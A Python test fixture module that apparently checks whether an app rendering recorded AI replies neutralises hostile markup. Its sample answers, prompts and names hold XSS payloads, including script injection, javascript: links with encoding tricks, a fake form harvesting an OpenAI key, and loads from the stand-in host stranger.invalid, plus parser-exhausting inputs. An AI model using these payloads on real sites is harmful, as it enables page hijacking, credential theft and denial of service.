"""Answers that mean harm, as a recording that can be imported, and what a page must look like that shows them.

Whatever a recording says can be hostile: the answers and what was reasoned before them, prompts, names, errors.
"""

from datetime import UTC, datetime
from typing import NamedTuple

from playwright.sync_api import Page

from providers import End, Message, ProviderError, Reasoning, Request
from replies.conversation import Comparison, Conversation, Turn, unguessable
from replies.recording.format import Item
from replies.reply import Asked, Chunk, Reply
from replies.verdict import Verdict

STRANGER = "http://stranger.invalid"
TAKEN = "document.title = 'taken over'"
WHEN = datetime(2026, 11, 22, 13, 45, tzinfo=UTC)


class Sample(NamedTuple):
    """A piece of an answer, and what a reader is to see of it; by default every character."""

    source: str
    shown: str | None = None

    @property
    def seen(self) -> str:
        return self.source if self.shown is None else self.shown


MARKUP = [
    Sample(source)
    for source in (
        f"<script>{TAKEN}</script>",
        f"<script src='{STRANGER}/script.js'></script>",
        f'inline <script>{TAKEN}</script> and <b onclick="{TAKEN}">bold</b>',
        f'<img src="{STRANGER}/img.png" onerror="{TAKEN}">',
        f"inline <img src={STRANGER}/inline.png srcset='{STRANGER}/set.png 2x'>",
        f'<svg onload="{TAKEN}"><image href="{STRANGER}/svg.png"/></svg>',
        f"<iframe src='{STRANGER}/frame.html'></iframe>",
        f'<iframe srcdoc="<script>parent.{TAKEN}</script>"></iframe>',
        f"<object data='{STRANGER}/object'></object><embed src='{STRANGER}/embed'>",
        f"<video src='{STRANGER}/film' poster='{STRANGER}/poster.png' autoplay></video>",
        f"<audio src='{STRANGER}/sound' autoplay></audio>",
        f"<link rel=stylesheet href='{STRANGER}/style.css'><link rel=dns-prefetch href='{STRANGER}'>",
        f"<style>@import url('{STRANGER}/import.css'); * {{ display: none !important }}</style>",
        f"<meta http-equiv=refresh content='0; url={STRANGER}/'>",
        f"<base href='{STRANGER}/'>",
        f"<form action='{STRANGER}'><input name=key placeholder='Your OpenAI key'><button>Send</button></form>",
        f'<a href="javascript:{TAKEN}">press</a>',
        f'<details open ontoggle="{TAKEN}"><summary>more</summary></details>',
        f"<div style=\"position:fixed;inset:0;z-index:9999;background:url('{STRANGER}/cover.png')\">cover</div>",
        f"</div></div></section><script>{TAKEN}</script>",
        "<!-- a comment --> <![CDATA[ data ]]> <?php echo 1 ?>",
        "<template><p>a template</p></template><noscript>no script</noscript>",
    )
]

LINKS = [
    Sample(f"[press](javascript:{TAKEN.replace(' ', '')})"),
    Sample("[press](JaVaScRiPt:alert(1))"),
    Sample("[press](<javascript:alert(1)> 'title')"),
    Sample("[press](java&#115;cript:alert(1))", "[press](javascript:alert(1))"),
    Sample("[press](javascript&colon;alert(1))", "[press](javascript:alert(1))"),
    Sample("[press](&#x6A;avascript:alert(1))", "[press](javascript:alert(1))"),
    Sample("[press](java&Tab;script:alert(1))", "[press](java script:alert(1))"),
    Sample("[press](javascript\\:alert(1))", "[press](javascript:alert(1))"),
    Sample("[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    Sample("[press](vbscript:msgbox(1)) [press](file:///etc/passwd) [press](blob:null/1) [press](about:blank)"),
    Sample("[press](view-source:http://localhost) [press](chrome://settings) [press](intent:x#Intent;end)"),
    Sample("<javascript:alert(1)> <data:text/html,hello> <vbscript:x>"),
    Sample("[press][js]"),
    Sample("[js]: javascript:alert(1)"),
    Sample("[js] and [js][] and ![js]"),
    Sample("> [quoted]:\n> data:text/html,hello\n>\n> [quoted]", "[quoted]: data:text/html,hello"),
    Sample("| link |\n|---|\n| [press](javascript:alert(1)) |", "[press](javascript:alert(1))"),
    Sample("# [heading](javascript:alert(1))", "[heading](javascript:alert(1))"),
    Sample("- [item](data:text/html,hello)", "[item](data:text/html,hello)"),
]

PICTURES = [
    Sample(f"![inline]({STRANGER}/1.png)", "!inline"),
    Sample(f"![titled](<{STRANGER}/2.png> 'title')", "!titled"),
    Sample("![reference][picture]", "!reference"),
    Sample("![collapsed][] and ![picture]", "![collapsed][] and !picture"),
    Sample(f"[picture]: {STRANGER}/3.png", ""),
    Sample(f"[![in a link]({STRANGER}/4.png)]({STRANGER}/5)", "!in a link"),
    Sample(f"![outer ![inner]({STRANGER}/6.png)]({STRANGER}/7.png)", "!inner"),
    Sample(f"**![strong]({STRANGER}/8.png)** *![slanted]({STRANGER}/9.png)*", "!strong !slanted"),
    Sample(
        f"| pictures |\n|---|\n| ![in a table]({STRANGER}/10.png) <img src={STRANGER}/11.png> |",
        f"!in a table <img src={STRANGER}/11.png>",
    ),
    Sample(f"## ![in a heading]({STRANGER}/12.png)", "!in a heading"),
    Sample(f"- item\n  > ![in a quote in a list]({STRANGER}/13.png)", "!in a quote in a list"),
    Sample(f"a note[^1]\n\n[^1]: ![in a footnote]({STRANGER}/14.png)", "!in a footnote"),
    Sample(f"![over\ntwo lines]({STRANGER}/15.png)", "!over two lines"),
    Sample(f"![script](data:image/svg+xml,<svg onload={TAKEN.replace(' ', '')}>)"),
    Sample("![without a scheme](//stranger.invalid/16.png)", "!without a scheme"),
    Sample(f"\\\\![escaped]({STRANGER}/17.png) &#33;[entity]({STRANGER}/18.png)", "\\!escaped !entity"),
    Sample(f"{STRANGER}/19.png and <{STRANGER}/20.png>", f"{STRANGER}/19.png and {STRANGER}/20.png"),
    Sample(f"{'> ' * 60}![deep]({STRANGER}/21.png)", "!deep"),
]

DIRECTIVES = [
    Sample(source)
    for source in (
        ":red[alarm] :blue-background[note] :rainbow[party] :small[print] :shimmer[waiting]",
        ":green-badge[:material/bolt: Live] :orange-badge[Simulator] :color[x]{foreground='red'}",
        ":material/home: :streamlit: :smile: :+1:",
        "::leaf[x]{a=b}",
        "from $5 to $10 -> <- -- >= ~=",
    )
] + [
    Sample(":::note\ncontainer\n:::", ":::note container :::"),
    Sample("```math\n\\frac{3}{4}\n```", "\\frac{3}{4}"),
    Sample("```mermaid\ngraph TD; A-->B\n```", "graph TD; A-->B"),
    Sample("`:red[in code] $x$ ![a](b)`", ":red[in code] $x$ ![a](b)"),
    Sample("# root\n\n## portal\n\nthe end of it", "root portal the end of it"),
]

SAMPLES = [*MARKUP, *LINKS, *PICTURES, *DIRECTIVES]
ANSWER = "\n\n".join(sample.source for sample in SAMPLES)
UNCLOSED = f"The end.\n\n````html\n<script>{TAKEN}</script>\n```\n![never closed]({STRANGER}/22.png)\n:red[x] $y$"

HEAVY = {
    "10,000 nested brackets": "[" * 10_000 + "within" + "]" * 10_000,
    "10,000 nested links": "[" * 10_000 + "within" + "](/)" * 2_000,
    "10,000 nested quotations": ">" * 10_000 + " within",
    "10,000 nested lists": "- " * 10_000 + "within",
    "10,000 nested emphases": "*a " * 5_000 + "within" + " a*" * 5_000,
    "a word of 100,000 letters": "a." * 50_000 + "within",
    "an accent on an accent": "a" + "\u0301" * 2_000 + " within",
    "tags that never end": "<a b='" * 5_000 + "within",
    "addresses in addresses": "https://www." * 10_000 + "within",
    "a line of a million characters": "word " * 200_000 + "within",
}

# What would be there if any of it had worked. A page's own scripts stand in its head, or at the end of its body.
HARM = """() => {
    const found = [];
    const own = new Set([location.origin, 'null']);
    for (const element of document.querySelectorAll('body *')) {
        const tag = element.tagName.toLowerCase();
        const where = `${tag}.${element.className?.baseVal ?? element.className}`;
        if (['script', 'iframe', 'frame', 'object', 'embed', 'base', 'meta', 'video', 'audio', 'form'].includes(tag)
            && !element.closest('[data-testid=stForm], .vega-bindings, .st-key-prefetch')
            && !element.src?.startsWith(location.origin)
            && element.parentElement !== document.body)
            found.push(`element ${where}: ${element.outerHTML.slice(0, 200)}`);
        for (const {name, value} of element.attributes) {
            if (name.startsWith('on')) found.push(`handler ${where} ${name}`);
            if (['src', 'srcset', 'poster', 'data', 'background', 'formaction', 'action', 'xlink:href'].includes(name)
                && !value.startsWith('data:') && !own.has(new URL(value, location.href).origin))
                found.push(`source ${where} ${name}=${value}`);
            if (name === 'href' && !/^(https?:|mailto:|tel:|blob:)/.test(new URL(value, location.href).href)
                && !value.startsWith('#'))
                found.push(`link ${where} ${value}`);
            if (name === 'style' && value.includes('stranger')) found.push(`style ${where} ${value}`);
        }
    }
    if (document.title.includes('taken')) found.push('a script ran');
    return found;
}"""


def harm(page: Page) -> list[str]:
    """What of the samples is not text on this page, but an element, a handler, a source or a link that does harm."""
    found: list[str] = page.evaluate(HARM)
    return found


def a_reply(*texts: str, model: str = "m", stream: bool = True, error: str = "", prompt: str = "Hi") -> Reply:
    """A recorded answer whose names are hostile, too: by a provider that nobody can ask."""
    request = Request(messages=(Message("user", prompt),), model=model, system=PICTURES[0].source, stream=stream)
    name = f"![label]({STRANGER}/label.png) <img src={STRANGER}/label.png> :red[x] $y$"
    return Reply(
        Asked(provider=f"<img src={STRANGER}/p.png>", label=name, api=":red[chat]", request=request, simulated=False),
        id=unguessable(),
        state="interrupted" if error else "done",
        chunks=[Chunk(0.25 * (number + 1), text) for number, text in enumerate(texts)],
        asked_at=WHEN,
        end=None if error else End("stop", 10, 100, request_id=f"<script>{TAKEN}</script>"),
        error=ProviderError("interrupted", error) if error else None,
        total=0.25 * len(texts) + 0.25,
        skew=0.0,
        price={"unknown": f"![price]({STRANGER}/price.png) :red[x]"},
    )


def in_pieces(text: str, size: int) -> list[str]:
    return [text[start : start + size] for start in range(0, len(text), size)]


def conversation() -> Conversation:
    """One turn that is all markup, in 20 pieces after as much reasoning, and one whose answer broke off in code."""
    prompt = f"![prompt]({STRANGER}/prompt.png) <script>{TAKEN}</script> :red[x]"
    size = len(ANSWER) // 20 + 1
    said = a_reply(Reasoning(ANSWER), *in_pieces(ANSWER, size), model=f"<b>![model]({STRANGER}/m.png)", prompt=prompt)
    broken = a_reply(UNCLOSED, error=f"![error]({STRANGER}/error.png) <script>{TAKEN}</script>")
    return Conversation([Turn(prompt, [said]), Turn("And then?", [broken])])


def comparison() -> Comparison:
    """The same in two lanes that differ in a few words, streamed and awaited, with a verdict."""
    replies = [
        a_reply(*in_pieces(ANSWER, len(ANSWER) // 20 + 1), model="<script>streamed</script>"),
        a_reply(f"{ANSWER}\n\nAnd :red[more].", model=f"![awaited]({STRANGER}/m.png)", stream=False),
    ]
    found = Comparison.of(f"![prompt]({STRANGER}/prompt.png)", replies)
    found.verdict = Verdict(
        outcome="best", lane=0, reasons=("correct",), note=f"![note]({STRANGER}/note.png) <script>{TAKEN}</script>"
    )
    return found


def heavy() -> list[Conversation]:
    """What a browser, or a parser on the server, would choke on, each by itself."""
    return [Conversation([Turn(name, [a_reply(text)])]) for name, text in HEAVY.items()]


def items() -> list[Item]:
    return [conversation(), comparison()]
